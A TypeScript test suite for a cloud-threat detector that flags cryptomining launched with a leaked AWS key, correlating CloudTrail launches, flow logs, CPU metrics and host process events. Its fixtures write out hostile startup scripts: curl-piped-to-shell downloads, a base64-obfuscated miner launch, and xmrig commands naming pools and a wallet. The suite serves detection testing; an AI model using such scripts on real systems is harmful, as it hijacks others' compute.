import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CloudFacts, CoalEvent, EventAction } from '../model/event.js';
import type { Finding } from '../model/finding.js';
import { defaultPolicy, type Policy } from '../model/policy.js';
import type { Signal, SignalClass, SignalKind, Strength } from '../model/signal.js';
import { createClassifier } from '../signals/index.js';
import { loadIntel } from '../signals/intel/store.js';
import type { Intel } from '../signals/intel/types.js';
import { signalFor } from '../signals/make.js';
import { loadRules } from '../signals/sigma/index.js';
import { createDetector } from './index.js';

const T0 = Date.UTC(2026, 10, 20, 3, 0, 0);
const MIN = 60_000;
const DAY = 24 * 60 * MIN;
const ACCOUNT = '123456789012';
let line = 0;

function ev(ms: number, action: EventAction, fields: Partial<CoalEvent> = {}): CoalEvent {
  const ts = T0 + ms;
  return {
    '@timestamp': new Date(ts).toISOString(),
    event: { kind: action === 'metric' ? 'metric' : 'event', category: [], action, dataset: 'test' },
    original: {},
    coalmine: { ts, format: 'test', ref: { file: 'test.log', line: ++line } },
    ...fields,
  };
}

/** A control-plane call as the CloudTrail reader gives it. */
function call(
  ms: number,
  cloud: Omit<CloudFacts, 'provider' | 'account'>,
  extra: { ip?: string; ua?: string; failed?: boolean } = {},
) {
  const ts = T0 + ms;
  return ev(ms, 'cloud-change', {
    event: {
      kind: 'event',
      category: ['configuration'],
      action: 'cloud-change',
      dataset: 'cloudtrail.test',
      outcome: extra.failed ? 'failure' : 'success',
      id: `evt-${line}`,
    },
    host: { name: `aws:${ACCOUNT}` },
    user: { name: cloud.principal?.id },
    source: extra.ip ? { ip: extra.ip } : undefined,
    user_agent: extra.ua ? { original: extra.ua } : undefined,
    cloud: { provider: 'aws', account: { id: ACCOUNT }, region: cloud.region },
    coalmine: {
      ts,
      format: 'cloudtrail',
      ref: { file: 'trail.json', line: ++line },
      cloud: { provider: 'aws', account: ACCOUNT, ...cloud },
    },
  });
}

const TERRAFORM = 'arn:aws:sts::123456789012:assumed-role/terraform-deploy/session';
const LEAKED = 'arn:aws:iam::123456789012:user/ci-backup';

function routine(): CoalEvent[] {
  const out: CoalEvent[] = [];
  for (let i = 0; i < 4; i++)
    out.push(
      call(
        -3 * DAY + i * 12 * 60 * MIN,
        {
          operation: 'RunInstances',
          region: 'eu-west-1',
          principal: { id: TERRAFORM, type: 'AssumedRole' },
          instanceType: 'm5.large',
          count: 2,
          instances: [{ id: `i-0routine${i}a`, type: 'm5.large', privateIps: [`10.0.9.${i * 2 + 1}`] }],
        },
        { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
      ),
    );
  // the leaked key had been used before, to read things only
  out.push(
    call(
      -2 * DAY,
      { operation: 'GetServiceQuota', region: 'eu-west-1', principal: { id: LEAKED, type: 'IAMUser' } },
      { ip: '198.51.100.20' },
    ),
  );
  return out;
}

function leakedKeyLaunch(): CoalEvent[] {
  const instances = Array.from({ length: 20 }, (_, i) => ({
    id: `i-0miner${String(i).padStart(2, '0')}`,
    type: 'g4dn.xlarge',
    privateIps: [`10.20.0.${i + 10}`],
  }));
  return [
    call(
      0,
      {
        operation: 'EnableRegion',
        region: 'us-east-1',
        principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
        resources: [{ type: 'region', name: 'ap-southeast-3' }],
      },
      { ip: '203.0.113.77', ua: 'python-requests/2.31.0' },
    ),
    call(
      5 * MIN,
      {
        operation: 'RunInstances',
        region: 'ap-southeast-3',
        principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
        instanceType: 'g4dn.xlarge',
        count: 20,
        userData: 'curl -s http://203.0.113.9/x.sh | sh',
        instances,
      },
      { ip: '203.0.113.77', ua: 'Boto3/1.34.0 Python/3.11' },
    ),
  ];
}

function poolFlows(): CoalEvent[] {
  return [0, 1, 2].map((i) =>
    ev(8 * MIN + i * 1000, 'connect', {
      source: { ip: `10.20.0.${i + 10}`, port: 40000 + i },
      destination: { ip: '198.51.100.23', port: 3333 },
      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3', network_interface: `eni-0${i}` },
      original: { signal: { kind: 'pool-contact', class: 'network', strength: 'strong' } },
    }),
  );
}

function cpu(id: string, fromMs: number, samples: number, pct: number | ((i: number) => number)): CoalEvent[] {
  return Array.from({ length: samples }, (_, i) =>
    ev(fromMs + i * 5 * MIN, 'metric', {
      host: { name: id },
      metrics: { cpu_pct: typeof pct === 'number' ? pct : pct(i) },
      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3', instance: { id } },
    }),
  );
}

function classify(event: CoalEvent, out: Signal[]): void {
  const s = event.original.signal as { kind: SignalKind; class: SignalClass; strength: Strength } | undefined;
  if (s) out.push(signalFor(event, { ...s, by: `test:${s.kind}`, explanation: `${s.kind} (test)` }));
}

function run(events: CoalEvent[], policy: Policy = defaultPolicy()): Finding[] {
  const findings: Finding[] = [];
  const engine = createDetector({ policy, classify, onFinding: (f) => findings.push(f) });
  for (const e of [...events].sort((a, b) => a.coalmine.ts - b.coalmine.ts)) engine.push(e);
  engine.end();
  return findings;
}

test('a leaked key launching 20 GPU instances in a new region, pool flows from their addresses, CPU pinned from launch: one high AN0744 finding', () => {
  const findings = run([...routine(), ...leakedKeyLaunch(), ...poolFlows(), ...cpu('i-0miner00', 7 * MIN, 8, 99)]);
  assert.deepEqual(
    findings.map((f) => [f.analytic, f.severity]),
    [['AN0744', 'high']],
  );
  const f = findings[0];
  assert.deepEqual(f.legs, ['resource', 'reach', 'authorization']);
  assert.equal(f.facts.instance_count, 20);
  assert.equal(f.facts.principal, LEAKED);
  assert.equal(f.facts.access_key_id, 'AKIAEXAMPLELEAKED01');
  assert.equal(f.facts.region, 'ap-southeast-3');
  assert.deepEqual(f.facts.instance_types, ['g4dn.xlarge']);
  assert.match(
    String(f.facts.authorization),
    /first launch by .*ci-backup.*region ap-southeast-3 first used in the account.*GPU.*EnableRegion/,
  );
  assert.ok(f.evidence.some((e) => e.kind === 'sustained-cpu' && /pinned from launch/.test(e.explanation)));
  assert.match(f.title, /20 instances \(g4dn\.xlarge\) in aws account 123456789012 ap-southeast-3 by/);
});

test('without flow logs: medium, and the gap names the missing flow and DNS logs', () => {
  const [f] = run([...routine(), ...leakedKeyLaunch(), ...cpu('i-0miner00', 7 * MIN, 8, 99)]);
  assert.equal(f.severity, 'medium');
  assert.deepEqual(f.legs, ['resource', 'authorization']);
  assert.ok(
    f.gaps.some((g) => /no flow or DNS logs for aws account 123456789012 ap-southeast-3/.test(g)),
    f.gaps.join('\n'),
  );
});

test('a denied GPU launch alone: low, named as an attempt, with the gaps that would decide it', () => {
  const denied = call(
    0,
    {
      operation: 'RunInstances',
      region: 'us-east-1',
      principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
      instanceType: 'p3.16xlarge',
      count: 4,
      errorCode: 'Client.UnauthorizedOperation',
    },
    { ip: '203.0.113.77', failed: true },
  );
  const [f, ...rest] = run([...routine(), denied]);
  assert.equal(rest.length, 0);
  assert.equal(f.severity, 'low');
  assert.match(f.title, /^Denied cloud launch: an attempt to launch 4 p3\.16xlarge/);
  assert.equal(f.facts.denied_requests, 1);
  assert.ok(f.gaps.some((g) => /no instance CPU metrics/.test(g)));
});

test('routine and service launches under load raise nothing: Terraform, an autoscaling group, a server busy for weeks', () => {
  const asg = call(DAY, {
    operation: 'RunInstances',
    region: 'eu-west-1',
    principal: {
      id: 'arn:aws:sts::123456789012:assumed-role/AWSServiceRoleForAutoScaling/AutoScaling',
      type: 'AssumedRole',
      invokedBy: 'autoscaling.amazonaws.com',
    },
    instanceType: 'c5.2xlarge',
    count: 6,
    tags: { 'aws:autoscaling:groupName': 'web-asg' },
    instances: [{ id: 'i-0asg01', type: 'c5.2xlarge' }],
  });
  const terraform = call(
    DAY + MIN,
    {
      operation: 'RunInstances',
      region: 'eu-west-1',
      principal: { id: TERRAFORM, type: 'AssumedRole' },
      instanceType: 'm5.large',
      count: 2,
      instances: [{ id: 'i-0tf99', type: 'm5.large' }],
    },
    { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
  );
  const busyServer = cpu('i-0oldserver', -14 * DAY, 14 * 24 * 12, 90);
  const findings = run([
    ...routine(),
    asg,
    terraform,
    ...cpu('i-0asg01', DAY + 2 * MIN, 10, 97),
    ...cpu('i-0tf99', DAY + 2 * MIN, 10, 97),
    ...busyServer,
  ]);
  assert.deepEqual(
    findings.map((f) => [f.severity, f.title]),
    [],
  );
});

test('the cloud: policy decides: off the approved path is evidence; the approved path is not', () => {
  const policy = defaultPolicy();
  policy.cloud = {
    principals: ['arn:aws:sts::*:assumed-role/terraform-*'],
    pipelines: [],
    services: ['autoscaling.amazonaws.com'],
    regions: ['eu-west-1'],
    instanceFamilies: [],
    tags: {},
    ref: 'coalmine.yaml:9',
  };
  const off = run([...leakedKeyLaunch(), ...poolFlows()], policy);
  assert.equal(off.length, 1);
  assert.deepEqual(off[0].legs, ['reach', 'authorization']);
  assert.match(String(off[0].facts.authorization), /not approved: .*coalmine\.yaml:9/);
  // a first GPU launch on the approved path, pinned from launch, is the training job it was approved for
  const training = call(
    0,
    {
      operation: 'RunInstances',
      region: 'eu-west-1',
      principal: { id: TERRAFORM, type: 'AssumedRole' },
      instanceType: 'p4d.24xlarge',
      count: 8,
      instances: [{ id: 'i-0train01', type: 'p4d.24xlarge' }],
    },
    { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
  );
  assert.deepEqual(run([training, ...cpu('i-0train01', 2 * MIN, 10, 99)], policy), []);
});

test("GCP and Azure calls that prepare a launch are part of its story ('just before')", () => {
  const prep = (operation: string) =>
    call(-MIN, { operation, region: 'eu-west-1', principal: { id: LEAKED, type: 'IAMUser' } }, { ip: '203.0.113.77' });
  for (const operation of [
    'google.iam.admin.v1.CreateServiceAccountKey',
    'Microsoft.Capacity/resourceProviders/locations/serviceLimitsRequests/write',
    'Microsoft.Network/networkSecurityGroups/securityRules/write',
  ]) {
    const launch = call(
      0,
      {
        operation: 'RunInstances',
        region: 'eu-west-1',
        principal: { id: LEAKED, type: 'IAMUser' },
        instanceType: 'm5.large',
        instances: [{ id: 'i-0prep01', type: 'm5.large' }],
      },
      { ip: '203.0.113.77' },
    );
    const findings = run([
      ...routine(),
      prep(operation),
      launch,
      ...poolFlows().map((e) => ({
        ...e,
        source: { ip: '10.0.0.1' },
        cloud: { provider: 'aws', instance: { id: 'i-0prep01' } },
      })),
    ]);
    assert.match(
      String(findings[0]?.facts.authorization),
      new RegExp(`just before: ${operation.replace(/[/.]/g, '\\$&')}`),
      operation,
    );
  }
});

// ---- reach from flows alone: the pool a launch's startup script names --------------------------------

async function realClassifier(): Promise<{ classify: (e: CoalEvent, out: Signal[]) => void; intel: Intel }> {
  const { intel } = await loadIntel([]);
  return { classify: createClassifier(intel, await loadRules([])), intel };
}

/** A launch by the leaked key (new region, GPU) whose startup script is `script`, one instance at 10.20.0.10. */
function scriptedLaunch(script: string): CoalEvent {
  return call(
    5 * MIN,
    {
      operation: 'RunInstances',
      region: 'ap-southeast-3',
      principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
      instanceType: 'g4dn.xlarge',
      count: 1,
      userData: script,
      instances: [{ id: 'i-0script01', type: 'g4dn.xlarge', privateIps: ['10.20.0.10'] }],
    },
    { ip: '203.0.113.77', ua: 'Boto3/1.34.0 Python/3.11' },
  );
}

/** Flow-log records (no process) from the instance's address, `minutes` long each. */
function flowsTo(ip: string, port: number, count: number, minutes: number): CoalEvent[] {
  return Array.from({ length: count }, (_, i) => {
    const e = ev(8 * MIN + i * minutes * MIN, 'connect', {
      source: { ip: '10.20.0.10', port: 40000 + i },
      destination: { ip, port },
      network: { direction: 'outbound', transport: 'tcp' },
      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3' },
    });
    e.coalmine.flow = { durationMs: minutes * MIN };
    return e;
  });
}

async function runReal(events: CoalEvent[]): Promise<Finding[]> {
  const { classify, intel } = await realClassifier();
  const findings: Finding[] = [];
  const engine = createDetector({ policy: defaultPolicy(), classify, intel, onFinding: (f) => findings.push(f) });
  for (const e of [...events].sort((a, b) => a.coalmine.ts - b.coalmine.ts)) engine.push(e);
  engine.end();
  return findings;
}

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

test("flows alone hold reach when they go where the launch's startup script says its miner connects", async () => {
  const cases: Array<{ name: string; script: string; to: [string, number]; by: RegExp }> = [
    {
      name: 'an unlisted pool address in the miner options',
      script: `#!/bin/bash\ncurl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x\n/tmp/x -o 198.51.100.7:3333 -u ${WALLET} -k`,
      to: ['198.51.100.7', 3333],
      by: /connected to 198\.51\.100\.7:3333, the pool 198\.51\.100\.7:3333 named in the miner options of its launch's startup script/,
    },
    {
      name: 'a Stratum URL by name, decoded from base64 piped to a shell',
      script: `echo ${Buffer.from('nohup ./sysupdate -o stratum+tcp://gulf.example-pool.net:14444 -u x --donate-level 1 &').toString('base64')} | base64 -d | bash`,
      to: ['192.0.2.50', 14444],
      by: /the port of the pool stratum\+tcp:\/\/gulf\.example-pool\.net:14444 named in its launch's startup script/,
    },
  ];
  for (const c of cases) {
    const findings = await runReal([
      ...routine(),
      scriptedLaunch(c.script),
      ...flowsTo(c.to[0], c.to[1], 1, 1),
      ...cpu('i-0script01', 7 * MIN, 8, 99),
    ]);
    assert.deepEqual(
      findings.map((f) => [f.analytic, f.severity]),
      [['AN0744', 'high']],
      c.name,
    );
    const contact = findings[0].evidence.find((e) => e.by === 'engine:launch-named-pool');
    assert.equal(contact?.strength, 'strong', c.name);
    assert.match(contact?.explanation ?? '', c.by, c.name);
  }
});

test('a flow to another address on the named port, or a denied launch naming a pool, is not pool contact', async () => {
  const script = `/opt/x -o 198.51.100.7:3333 -u ${WALLET}`;
  const findings = await runReal([...routine(), scriptedLaunch(script), ...flowsTo('192.0.2.99', 3333, 1, 1)]);
  assert.ok(!findings.some((f) => f.evidence.some((e) => e.by === 'engine:launch-named-pool')));
});

test('a held or reopened mining-port flow is medium pool contact only when the launch runs a miner', async () => {
  // the miner reads its pool from a config file: the script names no pool, but says xmrig
  const miner = await runReal([
    ...routine(),
    scriptedLaunch('#!/bin/sh\ncd /opt && ./xmrig -c /opt/config.json --donate-level 1'),
    ...flowsTo('192.0.2.77', 5555, 1, 15),
  ]);
  const held = miner.flatMap((f) => f.evidence).find((e) => e.by === 'engine:held-mining-port');
  assert.equal(held?.strength, 'medium');
  assert.match(
    held?.explanation ?? '',
    /instance i-0script01 held one connection open for 15 min to it and its launch's startup script or task runs a miner/,
  );
  assert.ok(miner.some((f) => f.analytic === 'AN0744' && f.legs.includes('reach')));

  // an ordinary bootstrap script: the same long flow stays weak, reach does not hold
  const plain = await runReal([
    ...routine(),
    scriptedLaunch('#!/bin/sh\napt-get update && apt-get install -y nginx && systemctl start nginx'),
    ...flowsTo('192.0.2.77', 5555, 1, 15),
  ]);
  assert.ok(!plain.flatMap((f) => f.evidence).some((e) => e.kind === 'pool-contact'));
  assert.ok(!plain.some((f) => f.legs.includes('reach')));
});

test('a policy that forgets a routine launcher leaves it quiet; off the path and new says both', () => {
  const policy = defaultPolicy();
  policy.cloud = {
    principals: ['arn:aws:iam::*:role/someone-else'],
    pipelines: [],
    services: [],
    regions: [],
    instanceFamilies: [],
    tags: {},
    ref: 'coalmine.yaml:3',
  };
  // Terraform has launched m5 in eu-west-1 four times over three days: established, though not in the policy
  const again = call(
    0,
    {
      operation: 'RunInstances',
      region: 'eu-west-1',
      principal: { id: TERRAFORM, type: 'AssumedRole' },
      instanceType: 'm5.large',
      count: 2,
      instances: [{ id: 'i-0again01', type: 'm5.large' }],
    },
    { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
  );
  const quiet = run([...routine(), again, ...cpu('i-0again01', 2 * MIN, 10, 99)], policy);
  assert.deepEqual(
    quiet.map((f) => [f.severity, f.title]),
    [],
  );
  // the leaked key off the path: the policy's reason and the history's novelties, one strong verdict
  const [f] = run([...routine(), ...leakedKeyLaunch(), ...poolFlows()], policy);
  const verdict = f.evidence.find((e) => e.by === 'engine:launch-policy');
  assert.equal(verdict?.strength, 'strong');
  assert.match(verdict?.explanation ?? '', /not on the approved path: .*coalmine\.yaml:3.*first launch by/);
  assert.match(
    String(f.facts.authorization),
    /not approved: .*coalmine\.yaml:3.*region ap-southeast-3 first used in the account.*just before: EnableRegion/,
  );
});

// ---- host telemetry on a launched instance: the host's findings and the launch's name each other ----------

test("a host's own telemetry stays its own (AN0742) and is tied to the instance it runs on, both ways", async () => {
  const onHost = (ms: number, action: EventAction, fields: Partial<CoalEvent>): CoalEvent =>
    ev(ms, action, {
      host: { name: 'ip-10-20-0-10.ap-southeast-3.compute.internal', os: { platform: 'linux' } },
      // an agent stamps the instance on every event: that must not hand the host's processes to the launch
      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3', instance: { id: 'i-0script01' } },
      ...fields,
    });
  const miner = {
    pid: 4242,
    name: 'xmrig',
    executable: '/tmp/.x/xmrig',
    command_line: `/tmp/.x/xmrig -o 198.51.100.7:3333 -u ${WALLET}`,
  };
  const findings = await runReal([
    ...routine(),
    scriptedLaunch('#!/bin/sh\napt-get update'),
    onHost(9 * MIN, 'exec', { process: { ...miner, parent: { pid: 1 } } }),
    onHost(10 * MIN, 'connect', { process: miner, destination: { ip: '198.51.100.7', port: 3333 } }),
    ...cpu('i-0script01', 7 * MIN, 8, 99),
  ]);
  const host = findings.find((f) => f.analytic === 'AN0742');
  assert.ok(host, findings.map((f) => `${f.analytic} ${f.severity} ${f.title}`).join('\n'));
  assert.equal(host.facts.cloud_instance, `aws ${ACCOUNT} ap-southeast-3 i-0script01`);
  assert.match(String(host.facts.instance_launched_by), /ci-backup \(key AKIAEXAMPLELEAKED01\)/);
  const launch = findings.find((f) => f.analytic === 'AN0744');
  assert.deepEqual(launch?.facts.hosts, ['ip-10-20-0-10.ap-southeast-3.compute.internal']);
});

test('an EC2 host name ties the host to the instance holding that address at the time, and only then', async () => {
  const onHost = (ms: number, name: string): CoalEvent =>
    ev(ms, 'exec', {
      host: { name, os: { platform: 'linux' } },
      process: {
        pid: 77,
        name: 'xmrig',
        executable: '/tmp/xmrig',
        command_line: `/tmp/xmrig -o 198.51.100.7:3333 -u ${WALLET}`,
      },
    });
  const findings = await runReal([
    ...routine(),
    scriptedLaunch('#!/bin/sh\napt-get update'),
    onHost(9 * MIN, 'ip-10-20-0-10'),
    onHost(9 * MIN, 'ip-10-20-0-11'),
  ]);
  const byHost = new Map(findings.filter((f) => f.analytic === 'AN0742').map((f) => [f.facts.host, f]));
  assert.equal(byHost.get('ip-10-20-0-10')?.facts.cloud_instance, `aws ${ACCOUNT} ap-southeast-3 i-0script01`);
  assert.ok(byHost.has('ip-10-20-0-11'));
  assert.equal(byHost.get('ip-10-20-0-11')?.facts.cloud_instance, undefined);
});
